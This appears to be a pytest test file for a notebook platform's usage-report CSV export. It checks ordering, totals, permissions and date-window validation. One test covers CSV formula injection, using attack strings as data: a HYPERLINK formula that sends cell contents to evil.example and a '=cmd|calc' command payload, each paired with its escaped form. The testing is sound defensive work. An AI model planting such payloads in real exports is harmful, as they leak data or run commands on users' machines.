"""The usage report's export (GET /usage/export, GET /me/usage/export): every
notebook's line as CSV, what the JSON report counts, past the 100 it names."""

from __future__ import annotations

import csv
import io

import pytest
from aiohttp.test_utils import TestClient
from api_factories import Factory, Member, World, refused
from test_api_usage import at, instant, usage
from test_api_usage_days import DAY, history_of_four_days, roll_up_all_but_the_last

from api import usage as usage_module
from api.usage import CSV_COLUMNS, TOP_NOTEBOOKS
from common.settings import Settings

EXPORT = "/api/v1/usage/export"
MY_EXPORT = "/api/v1/me/usage/export"


async def export(client: TestClient, who: Member, query_string: str = "", path: str = EXPORT):
    resp = await client.get(f"{path}{query_string}", headers=who.auth)
    assert resp.status == 200, await resp.text()
    assert resp.headers["Content-Type"] == "text/csv; charset=utf-8"
    text = await resp.text()
    assert text.startswith(",".join(CSV_COLUMNS) + "\r\n") and text.endswith("\r\n")  # RFC 4180
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    return resp, rows


async def test_every_notebook_has_its_line_past_the_reports_hundred(
    client: TestClient, world: World, factory: Factory
) -> None:
    """The JSON names the 100 that ran longest; the export has them all, in
    its order, with the same seconds, owners by id, email and name."""
    notebooks = [factory.notebook(world.outsider, world.config) for _ in range(TOP_NOTEBOOKS + 2)]
    for i, nb in enumerate(notebooks):
        factory.event(nb, world.org, "running", at=instant(0))
        factory.event(nb, world.org, "stopped", at=instant(60 + i))
    factory.clock.advance(3600)

    report = await usage(client, world.admin)
    assert len(report["byNotebook"]) == TOP_NOTEBOOKS and report["notebooks"] == 102
    resp, rows = await export(client, world.admin)
    assert resp.headers["Content-Disposition"] == (
        'attachment; filename="usage-2026-11-01-to-2026-11-01.csv"'
    )
    assert [row["notebook_id"] for row in rows] == notebooks[::-1]  # most used first
    assert [row["notebook_id"] for row in rows[:TOP_NOTEBOOKS]] == [
        n["notebookId"] for n in report["byNotebook"]
    ]
    assert sum(int(row["seconds"]) for row in rows) == report["seconds"]
    last = rows[-1]
    assert last == {
        "from": "2026-11-01T00:00:00+00:00",
        "to": report["to"],
        "notebook_id": notebooks[0],
        "notebook_name": f"nb {notebooks[0]}",
        "deleted": "false",
        "owner_id": world.outsider.id,
        "owner_name": f"Member {world.outsider.id}",
        "owner_email": f"{world.outsider.id.lower()}@example.com",
        "seconds": "60",
        "hours": "0.02",
    }
    assert list(rows[0]) == list(CSV_COLUMNS)


async def test_a_name_a_spreadsheet_would_run_is_kept_text(
    client: TestClient, world: World, factory: Factory
) -> None:
    """A notebook's name is anyone's text: one starting = + - @ would be a
    formula in the admin's spreadsheet (CSV injection); commas, quotes and
    line breaks stay inside their cell."""
    names = {
        '=HYPERLINK("http://evil.example/?"&A1,"x")': '\'=HYPERLINK("http://evil.example/?"&A1,"x")',
        "+1 forecast": "'+1 forecast",
        '-2, "quoted"\nand broken': '\'-2, "quoted"\nand broken',
        "@SUM(A1)": "'@SUM(A1)",
        " \u00a0=1+1": "' \u00a0=1+1",  # trimmed by an importer, then a formula
        "\uff1dcmd": "'\uff1dcmd",  # a full-width =
        "\tx": "'\tx",
        "plain, with a comma": "plain, with a comma",
        "a=b-c": "a=b-c",  # not at the start: text already
    }
    ids = {}
    for i, name in enumerate(names):
        nb = factory.notebook(world.owner, world.config)
        factory.conn.execute("update notebooks set name = %s where id = %s", (name, nb))
        factory.event(nb, world.org, "running", at=instant(0))
        factory.event(nb, world.org, "stopped", at=instant(100 + i))
        ids[nb] = names[name]
    factory.conn.execute(
        "update members set name = '=cmd|calc', email = '+1@example.com' where id = %s",
        (world.owner.id,),
    )
    factory.clock.advance(1000)

    _, rows = await export(client, world.admin)
    assert {row["notebook_id"]: row["notebook_name"] for row in rows} == ids
    assert {(row["owner_name"], row["owner_email"]) for row in rows} == {
        ("'=cmd|calc", "'+1@example.com")
    }


async def test_a_window_deleted_notebooks_and_the_roll_up_as_the_report_counts_them(
    client: TestClient,
    world: World,
    factory: Factory,
    settings: Settings,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Whole days from the roll-up (the export rolls up the day left itself),
    edges from the history, a notebook deleted for good: the export's lines
    are the report's, line for line, past the report's own list."""
    history_of_four_days(factory, world)
    factory.clock.advance(3.5 * DAY)
    await roll_up_all_but_the_last(settings, world, factory)
    window = f"?from={at(-1.25 * DAY)}&to={at(2.6 * DAY)}"

    resp, rows = await export(client, world.admin, window)
    report = await usage(client, world.admin, window)
    monkeypatch.setattr(usage_module, "TOP_NOTEBOOKS", 1)
    assert len((await usage(client, world.admin, window))["byNotebook"]) == 1
    assert (await export(client, world.admin, window))[1] == rows
    assert resp.headers["Content-Disposition"] == (
        'attachment; filename="usage-2026-10-31-to-2026-11-04.csv"'
    )
    assert [
        {
            "notebookId": row["notebook_id"],
            "name": row["notebook_name"],
            "memberId": row["owner_id"],
            "deleted": row["deleted"] == "true",
            "seconds": int(row["seconds"]),
        }
        for row in rows
    ] == report["byNotebook"]
    assert any(row["deleted"] == "true" for row in rows)
    assert {row["from"] for row in rows} == {report["from"]}
    assert {row["to"] for row in rows} == {report["to"]}


async def test_a_member_exports_their_own_and_only_admins_the_organizations(
    client: TestClient, world: World, factory: Factory, monkeypatch: pytest.MonkeyPatch
) -> None:
    mine = factory.notebook(world.outsider, world.config)
    also_mine = factory.notebook(world.outsider, world.config)
    for nb in (mine, also_mine, world.notebook):
        factory.event(nb, world.org, "running", at=instant(0))
    factory.event(also_mine, world.org, "stopped", at=instant(60))
    factory.clock.advance(7200)
    monkeypatch.setattr(usage_module, "TOP_NOTEBOOKS", 1)  # the JSON's list: one

    resp, rows = await export(client, world.outsider, path=MY_EXPORT)
    assert resp.headers["Content-Disposition"] == (
        'attachment; filename="my-usage-2026-11-01-to-2026-11-01.csv"'
    )
    assert [(row["notebook_id"], row["seconds"], row["hours"]) for row in rows] == [
        (mine, "7200", "2.00"),
        (also_mine, "60", "0.02"),
    ]
    # A window ending at a midnight is named for its last day.
    resp, _ = await export(client, world.outsider, "?to=2026-11-01T00:00:00Z", MY_EXPORT)
    assert resp.headers["Content-Disposition"] == (
        'attachment; filename="my-usage-2026-10-01-to-2026-10-31.csv"'
    )
    _, nothing = await export(client, world.viewer, path=MY_EXPORT)
    assert nothing == []  # the header alone
    for who in (world.owner, world.team_admin):
        await refused(await client.get(EXPORT, headers=who.auth), 403, "forbidden")
    _, theirs = await export(client, world.stranger)
    assert theirs == []  # an admin elsewhere: their organization's, none of this one
    assert (await client.get(EXPORT)).status == 401
    assert (await client.get(MY_EXPORT)).status == 401


async def test_a_bad_window_is_refused_as_the_report_refuses_it(
    client: TestClient, world: World
) -> None:
    for path in (EXPORT, MY_EXPORT):
        await refused(
            await client.get(f"{path}?from=yesterday", headers=world.admin.auth),
            400,
            "validation_failed",
            "from",
        )
        await refused(
            await client.get(f"{path}?from={at(100)}&to={at(0)}", headers=world.admin.auth),
            400,
            "validation_failed",
            "from",
        )
        await refused(
            await client.get(f"{path}?format=json", headers=world.admin.auth),
            400,
            "unknown_parameter",
            "format",
        )
